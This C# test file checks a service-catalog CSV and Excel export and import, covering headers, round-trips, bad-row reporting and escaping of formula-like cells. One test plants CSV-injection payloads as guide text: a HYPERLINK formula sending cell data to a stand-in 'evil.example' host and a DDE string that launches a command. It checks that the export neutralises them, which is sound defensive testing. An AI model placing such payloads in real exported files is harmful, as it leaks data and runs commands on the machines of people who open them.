using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using OneWindow.Domain.Catalog;
using OneWindow.Web.Data;
using OneWindow.Web.Modules.Catalog;
using OneWindow.Web.Tests.Infrastructure;

namespace OneWindow.Web.Tests.Catalog;

public class CatalogCsvTests(OneWindowFactory app) : IClassFixture<OneWindowFactory>
{
    [Fact]
    public async Task Exported_catalog_has_the_implementation_list_headers_and_every_item()
    {
        var admin = await app.SignedIn("admin");
        var response = await admin.GetAsync("/admin/catalog/export");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]); // BOM, so that Excel reads UTF-8
        var text = Encoding.UTF8.GetString(bytes);
        Assert.StartsWith("\uFEFF事项编码,事项名称,事项类型,", text, StringComparison.Ordinal);
        foreach (var seed in DemoCatalog.Items)
        {
            Assert.Contains(seed.Code + ",", text, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Importing_the_export_puts_identical_guides_into_new_drafts_without_publishing()
    {
        using var scope = app.Services.CreateScope();
        var csv = scope.ServiceProvider.GetRequiredService<CatalogCsv>();
        var db = scope.ServiceProvider.GetRequiredService<OneWindowDbContext>();
        using var exported = new MemoryStream();
        await csv.WriteAsync(exported);
        exported.Position = 0;

        var results = await csv.ImportAsync(exported, "importer");

        Assert.All(results, r => Assert.Null(r.Error));
        var sample = results.First(r => r.Code == "431025-BDC-001");
        Assert.Equal("draft-created", sample.Outcome);
        var versions = await db.ServiceItemVersions.AsNoTracking().Where(v => v.ItemCode == "431025-BDC-001").OrderBy(v => v.VersionNumber).ToListAsync();
        Assert.Equal([VersionStatus.Published, VersionStatus.Draft], versions.Select(v => v.Status));
        Assert.Equal(JsonSerializer.Serialize(versions[0].Guide), JsonSerializer.Serialize(versions[1].Guide));
    }

    [Fact]
    public async Task A_bad_row_is_reported_with_its_number_and_the_good_rows_still_import()
    {
        using var scope = app.Services.CreateScope();
        var csv = scope.ServiceProvider.GetRequiredService<CatalogCsv>();
        using var exported = new MemoryStream();
        await csv.WriteAsync(exported);
        var lines = Encoding.UTF8.GetString(exported.ToArray()).TrimStart('\uFEFF');
        // Keep the header and the first item; add a copy of it under a new code with a bad limit, and one with an unknown department.
        var rows = ReadRows(lines);
        var header = rows[0];
        var good = rows[1].ToArray();
        good[0] = "T-CSV-GOOD";
        var badLimit = rows[1].ToArray();
        badLimit[0] = "T-CSV-BAD";
        badLimit[Array.IndexOf(header, "承诺办结时限")] = "三天";
        var badDepartment = rows[1].ToArray();
        badDepartment[0] = "T-CSV-BAD2";
        badDepartment[Array.IndexOf(header, "实施机构")] = "不存在的局";
        var file = new StringBuilder();
        foreach (var row in new[] { header, good, badLimit, badDepartment })
        {
            file.Append(string.Join(',', row.Select(f => "\"" + f.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""))).Append("\r\n");
        }

        var results = await csv.ImportAsync(new MemoryStream(Encoding.UTF8.GetBytes(file.ToString())), "importer");

        Assert.Equal("created", results.Single(r => r.Code == "T-CSV-GOOD").Outcome);
        var bad = results.Single(r => r.Code == "T-CSV-BAD");
        Assert.Equal(3, bad.Row);
        Assert.Contains("承诺办结时限", bad.Error, StringComparison.Ordinal);
        Assert.Contains("不存在的局", results.Single(r => r.Code == "T-CSV-BAD2").Error, StringComparison.Ordinal);
        var db = scope.ServiceProvider.GetRequiredService<OneWindowDbContext>();
        Assert.False(await db.ServiceItems.AnyAsync(i => i.Code == "T-CSV-BAD"));
    }

    [Fact]
    public async Task A_file_without_the_required_columns_is_refused_as_a_whole()
    {
        using var scope = app.Services.CreateScope();
        var csv = scope.ServiceProvider.GetRequiredService<CatalogCsv>();
        var e = await Assert.ThrowsAsync<Domain.DomainRuleException>(() => csv.ImportAsync(new MemoryStream(Encoding.UTF8.GetBytes("code,name\r\nA,B\r\n")), "importer"));
        Assert.Equal("import.headers", e.Code);
    }

    [Fact]
    public async Task A_guide_text_written_as_a_formula_is_exported_as_text_and_imported_back_unchanged()
    {
        using var scope = app.Services.CreateScope();
        var csv = scope.ServiceProvider.GetRequiredService<CatalogCsv>();
        var db = scope.ServiceProvider.GetRequiredService<OneWindowDbContext>();
        var published = await db.ServiceItemVersions.AsNoTracking().FirstAsync(v => v.ItemCode == "431025-MZ-001" && v.Status == VersionStatus.Published);
        var guide = published.Guide with
        {
            Name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此办理\")",
            LegalBasis = "+1+cmd|' /C calc'!A0",
            StatutoryLimitNote = "-",
            OfficeHours = "'=已带引号的文字",
            ConsultationPhone = "-2+3",
            SupervisionPhone = "12345",
            Materials = [published.Guide.Materials[0] with { Name = "@SUM(1+1)" }, .. published.Guide.Materials.Skip(1)],
        };
        await scope.ServiceProvider.GetRequiredService<ManageCatalog>().CreateItemAsync("T-CSV-FORMULA", guide, "admin");
        var saved = JsonSerializer.Serialize((await db.ServiceItemVersions.AsNoTracking().SingleAsync(v => v.ItemCode == "T-CSV-FORMULA")).Guide);
        Assert.Contains("HYPERLINK", saved, StringComparison.Ordinal);

        using var exported = new MemoryStream();
        await csv.WriteAsync(exported);
        var raw = RawCells(Encoding.UTF8.GetString(exported.ToArray()).TrimStart('\uFEFF')).Single(r => r[0] == "T-CSV-FORMULA");
        var live = raw.Where(cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal)
            && !decimal.TryParse(cell, System.Globalization.NumberStyles.AllowLeadingSign | System.Globalization.NumberStyles.AllowDecimalPoint, System.Globalization.CultureInfo.InvariantCulture, out _)).ToList();
        Assert.True(live.Count == 0, "cells a spreadsheet would evaluate: " + string.Join(" | ", live));
        Assert.Contains("'=HYPERLINK(", raw[1], StringComparison.Ordinal);
        Assert.Contains("''=已带引号的文字", raw, StringComparer.Ordinal);

        // The header and this item's row as exported, cell for cell (the other items stay as they are).
        var file = new StringBuilder();
        foreach (var row in new[] { RawCells(Encoding.UTF8.GetString(exported.ToArray()).TrimStart('\uFEFF'))[0], raw })
        {
            file.Append(string.Join(',', row.Select(f => "\"" + f.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""))).Append("\r\n");
        }
        var results = await csv.ImportAsync(new MemoryStream(Encoding.UTF8.GetBytes(file.ToString())), "importer");
        Assert.Equal("draft-updated", results.Single(r => r.Code == "T-CSV-FORMULA").Outcome);
        var imported = await db.ServiceItemVersions.AsNoTracking().SingleAsync(v => v.ItemCode == "T-CSV-FORMULA");
        Assert.Equal(saved, JsonSerializer.Serialize(imported.Guide));
    }

    [Fact]
    public void The_excel_export_writes_formula_like_text_as_text_and_numbers_as_numbers()
    {
        var file = Web.Infrastructure.Xlsx.Write("测试", [["名称", "得分"], ["=1+1", -5], ["@cmd", 3.5m], ["-5", "\u0001=2+2"]]);
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(file));
        var sheet = System.Xml.Linq.XDocument.Load(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        var texts = sheet.Descendants().Where(e => e.Name.LocalName == "t").Select(e => e.Value).ToList();
        var numbers = sheet.Descendants().Where(e => e.Name.LocalName == "v").Select(e => e.Value).ToList();
        Assert.Equal(["名称", "得分", "'=1+1", "'@cmd", "-5", "'=2+2"], texts); // a dropped control character uncovers no formula
        Assert.Equal(["-5", "3.5"], numbers); // numbers stay numbers, and a negative number is no formula
    }

    /// <summary>The cells as written, without the import's restoring: what a spreadsheet opening the file sees.</summary>
    private static List<string[]> RawCells(string text)
    {
        var rows = new List<string[]>();
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var ch = text[i];
            if (quoted)
            {
                if (ch == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (ch == '"') { quoted = false; }
                else { cell.Append(ch); }
            }
            else if (ch == '"') { quoted = true; }
            else if (ch == ',') { cells.Add(cell.ToString()); cell.Clear(); }
            else if (ch == '\n') { cells.Add(cell.ToString()); cell.Clear(); rows.Add([.. cells]); cells.Clear(); }
            else if (ch != '\r') { cell.Append(ch); }
        }
        return rows;
    }

    private static List<string[]> ReadRows(string text) => [.. Infrastructure_Csv(text)];

    private static IEnumerable<string[]> Infrastructure_Csv(string text) => Web.Infrastructure.Csv.Read(new StringReader(text));
}
